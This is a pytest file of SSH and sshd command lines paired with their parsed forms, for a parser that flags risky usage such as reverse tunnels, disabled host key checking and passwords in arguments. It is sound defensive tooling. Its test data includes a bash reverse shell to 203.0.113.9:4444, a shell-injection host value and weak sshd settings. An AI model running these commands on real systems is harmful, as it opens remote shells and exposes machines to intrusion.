"""Parsing of SSH command lines: a table of lines and their parsed form (long because it is one table).

test_ssh_against_openssh.py compares many more lines with `ssh -G`. test_ssh_findings.py covers
messages, headlines, masking and hostile input.
"""

# ruff: noqa: E501 (a command line and its parsed form take a line each)

import re
import shlex

import pytest

from app.domain.ssh import SshInvocation, parse_ssh


def summary(invocation: SshInvocation | None) -> str:
    """Format all values of an SshInvocation on one line; findings include their argument indexes."""
    if invocation is None:
        return "not ssh"
    parts = [invocation.role.value]
    if invocation.no_op_option:
        parts.append(invocation.no_op_option)
    if invocation.destination or invocation.user or invocation.port:
        parts.append(
            f"{invocation.user or ''}@{invocation.destination or ''}:{invocation.port or ''}"
        )
    parts += [f"via {hop.user or ''}@{hop.host}:{hop.port or ''}" for hop in invocation.jump_hosts]
    parts += [f"{f.kind} {f.listen or ''}>{f.target or ''}" for f in invocation.forwards]
    parts += [f"key {path}" for path in invocation.identity_files]
    if invocation.config_file:
        parts.append(f"config {invocation.config_file}")
    parts += [f"{keyword}={value}" for keyword, value in invocation.options.items()]
    if invocation.remote_command:
        parts.append(f"runs {shlex.join(invocation.remote_command)}")
    if invocation.background:
        parts.append("background")
    if invocation.no_command:
        parts.append("no command")
    for finding in invocation.findings:
        indexes = ",".join(map(str, finding.arg_indexes))
        parts.append(f"!{finding.kind}({indexes})")
    return "; ".join(parts)


# A command line, followed by its indented parsed form.
TABLE = r"""
ssh
    client; !invalid arguments()
ssh h
    client; @h:
/usr/bin/ssh h
    client; @h:
slogin h
    client; @h:
ssh u@Host.Example
    client; u@host.example:
ssh a@b@h
    client; a@b@h:
ssh -l a b@h
    client; a@h:
ssh h -l late
    client; late@h:
ssh -p 2222 h
    client; @h:2222
ssh -p2222 u@h uptime
    client; u@h:2222; runs uptime; !remote command(3)
ssh h -p 2222 ls -p 4
    client; @h:2222; runs ls -p 4; !remote command(4,5,6)
ssh -- h -p 3
    client; @h:; runs -p 3; !remote command(3,4)
ssh h -- ls -l
    client; @h:; runs ls -l; !remote command(3,4)
ssh -o Port=33 -p 22 h
    client; @h:33
ssh -p 22 -oPort=33 h
    client; @h:22
ssh ssh://u@h:44
    client; u@h:44
ssh ssh://u:secret@h
    client; u@h:; !password in arguments(1)
ssh -p 99 ssh://u@h:44
    client; u@h:99
ssh ssh://[2001:db8::1]:44
    client; @2001:db8::1:44
ssh ::1
    client; @::1:
ssh u@[2001:DB8::1]
    client; u@2001:db8::1:
ssh ssh://h/path
    client; !invalid arguments(1)
ssh @h
    client; @h:; !invalid arguments(1)
ssh -z h
    client; @h:; !invalid arguments(1)
ssh h -p
    client; @h:; !invalid arguments(2)
ssh -p zero h
    client; @h:; !invalid arguments(1,2)
ssh 'h;id'
    client; @h;id:; !invalid arguments(1)
ssh 3405803785
    client; @203.0.113.9:; !disguised destination(1)
ssh 0x7f.1
    client; @127.0.0.1:; !disguised destination(1)
ssh -o HostName=evil.example good.example
    client; @evil.example:; !disguised destination(1,2,3)
ssh -o HostName=%h.corp.example web
    client; @web.corp.example:; !disguised destination(1,2,3)
ssh -V
    no-op; -V; !no connection(1)
ssh -vV
    no-op; -V; !no connection(1)
ssh -Q cipher
    no-op; -Q; !no connection(1,2)
ssh -G h
    no-op; -G; @h:; !no connection(1)
ssh -V -R 1:h:2 h
    no-op; -V; !no connection(1)
ssh h ls -V
    client; @h:; runs ls -V; !remote command(2,3)
ssh -O check h
    no-op; -O check; @h:; controlcommand=check; !no connection(1,2)
ssh -O exit -S /tmp/c h
    no-op; -O exit; @h:; controlcommand=exit; controlpath=/tmp/c; !no connection(1,2)
ssh -O forward -S /tmp/c -R 1:localhost:22 h
    client; @h:; remote 1>localhost:22; controlcommand=forward; controlpath=/tmp/c; !remote forward(5,6); !shared connection(1,2,3,4)
ssh -fN -R 2222:localhost:22 u@203.0.113.9
    persistent tunnel; u@203.0.113.9:; remote 2222>localhost:22; forkafterauthentication=yes; stdinnull=yes; sessiontype=none; requesttty=no; background; no command; !remote forward(2,3); !background(1); !no command(1)
ssh -R 2222:localhost:22 u@203.0.113.9
    client; u@203.0.113.9:; remote 2222>localhost:22; !remote forward(1,2)
ssh -N -R 1080 h
    persistent tunnel; @h:; remote dynamic 1080>; sessiontype=none; requesttty=no; no command; !remote SOCKS proxy(2,3); !no command(1)
ssh -R 0:localhost:22 h
    client; @h:; remote 0>localhost:22; !remote forward(1,2)
ssh -R /tmp/s:localhost:22 h
    client; @h:; remote /tmp/s>localhost:22; !remote forward(1,2)
ssh -R '[::1]:2222:[::2]:22' h
    client; @h:; remote [::1]:2222>[::2]:22; !remote forward(1,2)
ssh -NTC -o ServerAliveInterval=30 -R 0.0.0.0:8443:10.0.0.5:443 h
    persistent tunnel; @h:; remote 0.0.0.0:8443>10.0.0.5:443; sessiontype=none; requesttty=no; compression=yes; serveraliveinterval=30; no command; !remote forward(4,5); !no command(1)
ssh -o 'RemoteForward 2222 localhost:22' -N h
    persistent tunnel; @h:; remote 2222>localhost:22; sessiontype=none; requesttty=no; no command; !remote forward(1,2); !no command(3)
ssh -o RemoteForward=1080 h
    client; @h:; remote dynamic 1080>; !remote SOCKS proxy(1,2)
ssh -L 8080:db:5432 h
    client; @h:; local 8080>db:5432; !local forward(1,2)
ssh -fNL '*:8080:db:5432' h
    persistent tunnel; @h:; local *:8080>db:5432; forkafterauthentication=yes; stdinnull=yes; sessiontype=none; requesttty=no; background; no command; !local forward(1,2); !background(1); !no command(1)
ssh -g -L 8080:db:5432 h
    client; @h:; local 8080>db:5432; gatewayports=yes; !local forward(2,3); !gateway ports(1)
ssh -L 1:/run/docker.sock h
    client; @h:; local 1>/run/docker.sock; !local forward(1,2)
ssh -oLocalForward='8080 db:5432' h
    client; @h:; local 8080>db:5432; !local forward(1)
ssh -L nonsense h
    client; @h:; !invalid arguments(1,2)
ssh -D 1080 h
    client; @h:; dynamic 1080>; !SOCKS proxy(1,2)
ssh -fND '*:1080' h
    persistent tunnel; @h:; dynamic *:1080>; forkafterauthentication=yes; stdinnull=yes; sessiontype=none; requesttty=no; background; no command; !SOCKS proxy(1,2); !background(1); !no command(1)
ssh -o DynamicForward=9050 h
    client; @h:; dynamic 9050>; !SOCKS proxy(1,2)
ssh -L 1:a:1 -L 1:a:1 -D 5 -R 6 h
    client; @h:; local 1>a:1; dynamic 5>; remote dynamic 6>; !remote SOCKS proxy(7,8); !SOCKS proxy(5,6); !local forward(1,2)
ssh -W db:22 jump
    client; @jump:; stdio >db:22; requesttty=no; sessiontype=none; no command; !stdio forward(1,2)
ssh -W db:22 -L 1:h:2 jump
    client; @jump:; stdio >db:22; requesttty=no; sessiontype=none; no command; !stdio forward(1,2)
ssh -W 22 jump
    client; @jump:; requesttty=no; sessiontype=none; no command; !no command(1,2)
ssh -w 0:1 h
    client; @h:; tun 0>1; tunnel=point-to-point; tunneldevice=0:1; !tun device(1,2)
ssh -fNw any h
    persistent tunnel; @h:; tun any>any; forkafterauthentication=yes; stdinnull=yes; sessiontype=none; requesttty=no; tunnel=point-to-point; tunneldevice=any; background; no command; !tun device(1,2); !background(1); !no command(1)
ssh -o Tunnel=ethernet -o TunnelDevice=1:2 h
    client; @h:; tun 1>2; tunnel=ethernet; tunneldevice=1:2; !tun device(1,2,3,4)
ssh -o ClearAllForwardings=yes -R 1:h:2 h
    client; @h:; clearallforwardings=yes
ssh -J a h
    client; @h:; via @a:; !jump host(1,2)
ssh -J u@a:22,[::1]:2200 h
    client; @h:; via u@a:22; via @::1:2200; !jump host(1,2)
ssh -J none h
    client; @h:
ssh -o ProxyJump=a,b h
    client; @h:; via @a:; via @b:; !jump host(1,2)
ssh -J a -J b h
    client; @h:; via @a:; !jump host(1,2); !invalid arguments(3,4)
ssh -J a -o ProxyCommand=x h
    client; @h:; via @a:; !jump host(1,2)
ssh -o 'ProxyCommand=nc -X 5 -x proxy:1080 %h %p' h
    client; @h:; proxycommand=nc -X 5 -x proxy:1080 %h %p; !proxy command(1,2)
ssh -o ProxyCommand=none h
    client; @h:; proxycommand=none
ssh -o 'ProxyCommand=sshpass -p secret ssh -W %h:%p jump' h
    client; @h:; proxycommand=sshpass -p •••••• ssh -W %h:%p jump; !proxy command(1,2); !password in arguments(2)
ssh -o PermitLocalCommand=yes -o 'LocalCommand=/tmp/x %h' h
    client; @h:; permitlocalcommand=yes; localcommand=/tmp/x %h; !local command(1,2,3,4)
ssh -o LocalCommand=/tmp/x h
    client; @h:; localcommand=/tmp/x
ssh -o PermitLocalCommand=yes h
    client; @h:; permitlocalcommand=yes; !local command(1,2)
ssh -o 'KnownHostsCommand=/tmp/x %H' h
    client; @h:; knownhostscommand=/tmp/x %H; !known hosts command(1,2)
ssh -o PKCS11Provider=/tmp/x.so h
    client; @h:; pkcs11provider=/tmp/x.so; !loads a library(1,2)
ssh -I /tmp/x.so h
    client; @h:; pkcs11provider=/tmp/x.so; !loads a library(1,2)
ssh -I none h
    client; @h:; pkcs11provider=none
ssh -o SecurityKeyProvider=internal h
    client; @h:; securitykeyprovider=internal
ssh -o XAuthLocation=/tmp/x -X h
    client; @h:; xauthlocation=/tmp/x; forwardx11=yes; !helper program(1,2); !X11 forwarding(3)
ssh -A h
    client; @h:; forwardagent=yes; !agent forwarding(1)
ssh -A -a h
    client; @h:; forwardagent=no
ssh -o ForwardAgent=yes h
    client; @h:; forwardagent=yes; !agent forwarding(1,2)
ssh -o ForwardAgent=/tmp/agent h
    client; @h:; forwardagent=/tmp/agent; !agent forwarding(1,2)
ssh -o ForwardAgent=no -A h
    client; @h:; forwardagent=yes; !agent forwarding(3)
ssh -X h
    client; @h:; forwardx11=yes; !X11 forwarding(1)
ssh -Y h
    client; @h:; forwardx11=yes; forwardx11trusted=yes; !X11 forwarding(1)
ssh -Yx h
    client; @h:; forwardx11=no; forwardx11trusted=yes
ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null u@h
    client; u@h:; stricthostkeychecking=no; userknownhostsfile=/dev/null; !host key checking off(1,2); !host keys discarded(3,4)
ssh -oStrictHostKeyChecking=off h
    client; @h:; stricthostkeychecking=no; !host key checking off(1)
ssh -o 'stricthostkeychecking = "no"' h
    client; @h:; stricthostkeychecking=no; !host key checking off(1,2)
ssh -o StrictHostKeyChecking=accept-new -o StrictHostKeyChecking=no h
    client; @h:; stricthostkeychecking=accept-new; !new host keys accepted(1,2)
ssh -o UserKnownHostsFile=/etc/hosts h
    client; @h:; userknownhostsfile=/etc/hosts
ssh -F /tmp/c h
    client; @h:; config /tmp/c; !custom configuration(1,2)
ssh -F none h
    client; @h:; config none
ssh -i /tmp/k -i ~/.ssh/id_rsa h
    client; @h:; key /tmp/k; key ~/.ssh/id_rsa; !key file(1,2); !key file(3,4)
ssh -o IdentityFile=/tmp/k h
    client; @h:; key /tmp/k; !key file(1,2)
ssh -E /dev/null h
    client; @h:; !log file(1,2)
ssh -M -S /tmp/c h
    client; @h:; controlmaster=yes; controlpath=/tmp/c; !shared connection(1,2,3)
ssh -S /tmp/c h
    client; @h:; controlpath=/tmp/c; !shared connection(1,2)
ssh -S none h
    client; @h:; controlpath=none
ssh -o ControlMaster=auto -o ControlPath=/tmp/%C -fN h
    client; @h:; controlmaster=auto; controlpath=/tmp/%C; forkafterauthentication=yes; stdinnull=yes; sessiontype=none; requesttty=no; background; no command; !shared connection(1,2,3,4); !background(5); !no command(5)
ssh -f h sleep 60
    client; @h:; forkafterauthentication=yes; stdinnull=yes; runs sleep 60; background; !background(1); !remote command(3,4)
ssh -f h
    client; @h:; forkafterauthentication=yes; stdinnull=yes; background; !background(1); !invalid arguments(1)
ssh -N h
    client; @h:; sessiontype=none; requesttty=no; no command; !no command(1)
ssh -s h sftp
    client; @h:; sessiontype=subsystem; runs sftp; !remote command(3)
ssh -s h
    client; @h:; sessiontype=subsystem; !invalid arguments(1)
ssh -o BatchMode=yes h true
    client; @h:; batchmode=yes; runs true; !remote command(4); !batch mode(1,2)
ssh -T h 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
    client; @h:; requesttty=no; runs 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'; !remote command(3)
ssh -o RemoteCommand='id -a' h
    client; @h:; remotecommand=id -a; !remote command(1,2)
ssh -o GatewayPorts=yes h
    client; @h:; gatewayports=yes; !gateway ports(1,2)
ssh -o Bogus=1 h
    client; @h:; bogus=1
ssh -o 'Match exec /tmp/x' h
    client; @h:; !invalid arguments(1,2)
ssh -nNTfM -p22 -vv h
    client; @h:22; stdinnull=yes; sessiontype=none; requesttty=no; forkafterauthentication=yes; controlmaster=yes; background; no command; !shared connection(1); !background(1); !no command(1)
sshpass -p secret ssh u@h id
    client; u@h:; runs id; !remote command(5); !password in arguments(1,2)
sshpass -psecret ssh h
    client; @h:; !password in arguments(1)
sshpass -f /tmp/pw -v ssh -p 22 h
    client; @h:22
sshpass -e ssh h
    client; @h:
sshpass -P Password: -p secret scp f u@h:
    client; u@h:; !password in arguments(3,4)
sshpass -p secret
    client; !password in arguments(1,2)
sshpass -p secret rsync a h:b
    client; !password in arguments(1,2)
autossh -M 0 -fN -R 2222:localhost:22 u@h
    persistent tunnel; u@h:; remote 2222>localhost:22; monitorport=0; forkafterauthentication=yes; stdinnull=yes; sessiontype=none; requesttty=no; background; no command; !remote forward(4,5); !automatic reconnect(0); !background(3); !no command(3)
autossh -M20000:7 h
    persistent tunnel; @h:; monitorport=20000:7; !automatic reconnect(0)
autossh -f -M 0 -D 1080 -N h -p 443
    persistent tunnel; @h:443; dynamic 1080>; forkafterauthentication=yes; stdinnull=yes; monitorport=0; sessiontype=none; requesttty=no; background; no command; !SOCKS proxy(4,5); !automatic reconnect(0); !background(1); !no command(6)
autossh -V
    no-op; -V; !no connection(1)
autossh -M 0
    persistent tunnel; monitorport=0; !automatic reconnect(0); !invalid arguments()
scp -P 2022 -i /tmp/k dump.sql deploy@10.0.0.7:/srv/
    client; deploy@10.0.0.7:2022; key /tmp/k; !key file(3,4)
scp h:/etc/passwd .
    client; @h:
scp -S /tmp/x a [::1]:b
    client; @::1:; !helper program(1,2)
scp scp://u@h:99/x .
    client; u@h:99
scp ./a:b c
    client
scp -t /tmp
    inbound session; !inbound session(1)
scp -3 -J j u@a:x v@b:y
    client; u@a:; via @j:; !jump host(2,3)
sftp u@h
    client; u@h:
sftp -b - -P 2022 u@h:/x
    client; u@h:2022
sftp sftp://u@h:99/x
    client; u@h:99
dbclient -y -p 443 -N -R 8080:localhost:80 u@h
    persistent tunnel; u@h:443; remote 8080>localhost:80; stricthostkeychecking=no; no command; !remote forward(5,6); !host key checking off(1); !no command(4)
dbclient a@j/22,b@h/33 id
    client; b@h:33; via a@j:22; runs id; !jump host(1); !remote command(2)
dbclient -B db:22 h
    client; @h:; stdio >db:22; !stdio forward(1,2)
dbclient -V
    no-op; -V; !no connection(1)
sshd
    daemon; !SSH server(0)
/usr/sbin/sshd -D
    daemon; !SSH server(0); !foreground(1)
/usr/sbin/sshd -D -e -p 2222 -p 22
    daemon; @:2222; !SSH server(0); !unusual port(3,4); !foreground(1)
sshd -o Port=2022 -o ListenAddress=0.0.0.0
    daemon; @:2022; listenaddress=0.0.0.0; !SSH server(0); !unusual port(1,2); !unusual port(3,4)
sshd -oPermitRootLogin=yes -oPasswordAuthentication=yes -oPermitEmptyPasswords=yes
    daemon; permitrootlogin=yes; passwordauthentication=yes; permitemptypasswords=yes; !SSH server(0); !root login(1); !weak authentication(2); !weak authentication(3)
sshd -o PermitRootLogin=no -o PermitRootLogin=yes
    daemon; permitrootlogin=no; !SSH server(0)
sshd -o AuthorizedKeysFile=/tmp/k -o StrictModes=no
    daemon; authorizedkeysfile=/tmp/k; strictmodes=no; !SSH server(0); !authorized keys(1,2); !weak authentication(3,4)
sshd -o AuthorizedKeysCommand=/tmp/x -o ForceCommand=/tmp/y
    daemon; authorizedkeyscommand=/tmp/x; forcecommand=/tmp/y; !SSH server(0); !authorized keys(1,2); !server command(3,4)
sshd -o GatewayPorts=yes -o AllowTcpForwarding=yes -o PermitTunnel=no
    daemon; gatewayports=yes; allowtcpforwarding=yes; permittunnel=no; !SSH server(0); !server forwarding(1,2); !server forwarding(3,4)
sshd -f /tmp/sshd_config -h /tmp/host_key -E /tmp/log
    daemon; config /tmp/sshd_config; hostkey=/tmp/host_key; !SSH server(0); !custom server configuration(1,2); !custom host key(3,4); !log file(5,6)
sshd -f /etc/ssh/sshd_config
    daemon; config /etc/ssh/sshd_config; !SSH server(0)
sshd -o LogLevel=QUIET -o MaxSessions=1
    daemon; loglevel=QUIET; maxsessions=1; !SSH server(0); !configuration override(1,2); !configuration override(3,4)
sshd -ddd -p 2022
    daemon; @:2022; !SSH server(0); !unusual port(2,3); !debug mode(1)
sshd -i
    inbound session; inetd=yes; !inetd mode(1)
sshd -D -R
    inbound session; reexec=yes; !inbound session(2); !foreground(1)
sshd -t
    no-op; -t; !no connection(1)
sshd -T -C user=root
    no-op; -T; connectiontest=user=root; !no connection(1)
sshd -V
    no-op; -V; !no connection(1)
sshd extra
    daemon; !SSH server(0); !invalid arguments(1)
sshd -Z
    daemon; !SSH server(0); !invalid arguments(1)
'sshd: /usr/sbin/sshd -D -p 2222 [listener] 0 of 10-100 startups'
    daemon; @:2222; !SSH server(0); !unusual port(0); !foreground(0)
sshd: /usr/sbin/sshd -D -p 2222 [listener] 0 of 10-100 startups
    daemon; @:2222; !SSH server(0); !unusual port(3,4); !foreground(2)
'sshd: erp [priv]'
    inbound session; erp@:; !inbound session(0)
'sshd: root@pts/0'
    inbound session; root@:; !inbound session(0)
'sshd: erp@notty'
    inbound session; erp@:; !inbound session(0)
'sshd: erp@pts/0,pts/1'
    inbound session; erp@:; !inbound session(0)
'sshd: unknown [preauth]'
    inbound session; !inbound session(0)
'sshd: [accepted]'
    inbound session; !inbound session(0)
'sshd-session: erp [priv]'
    inbound session; erp@:; !inbound session(0)
sshd-session: erp@pts/3
    inbound session; erp@:; !inbound session(1)
/usr/lib/openssh/sshd-session -D -R
    inbound session; reexec=yes; !inbound session(2); !foreground(1)
dropbear -R -F -p 0.0.0.0:2222
    daemon; @:2222; !SSH server(0); !unusual port(3,4); !foreground(2)
dropbear -i -c /tmp/x
    inbound session; inetd=yes; forcecommand=/tmp/x; !inetd mode(1); !server command(2,3)
dropbear -V
    no-op; -V; !no connection(1)
bash -c 'ssh h'
    not ssh
ssh -G -F /tmp/c h
    no-op; -G; @h:; config /tmp/c; !custom configuration(2,3); !no connection(1)
sshd -q -o LogLevel=VERBOSE
    daemon; loglevel=quiet; !SSH server(0); !configuration override(1)
"""
PAIRS = re.findall(r"^(\S.*)\n    (.*)$", TABLE, re.MULTILINE)


def process_name(args: list[str]) -> str:
    """Return the process name that an agent reports; a process title is not a file name."""
    title = re.match(r"(sshd(?:-session)?):(?: |$)", args[0])
    return title[1] if title else args[0]


def test_every_line_of_the_table_is_parsed_as_a_pair() -> None:
    assert len(PAIRS) * 2 == len(TABLE.strip().splitlines())
    assert len(PAIRS) >= 120


@pytest.mark.parametrize(("line", "expected"), PAIRS)
def test_a_command_line_is_parsed(line: str, expected: str) -> None:
    args = shlex.split(line)
    assert summary(parse_ssh(process_name(args), args)) == expected
